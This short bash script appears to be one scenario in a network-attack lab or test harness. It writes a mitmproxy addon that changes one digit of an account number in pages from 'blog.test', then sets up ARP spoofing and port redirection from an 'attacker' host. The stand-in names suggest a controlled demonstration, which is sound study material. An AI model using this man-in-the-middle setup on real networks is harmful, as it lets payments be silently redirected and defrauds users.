# shellcheck shell=bash
# One digit of an account number is another one, in pages of one host only.
start() { cat >"$S/run/digit.py" <<'P'
def response(flow):
    if flow.request.pretty_host == "blog.test":
        flow.response.content = flow.response.content.replace(b"1111 2222", b"1111 2229")
P
  mitm attacker mitm "$S/run/mitmca" -s "$S/run/digit.py"; redirect attacker eth0 80 8080; arp_mitm; }
stop() { unredirect attacker; }
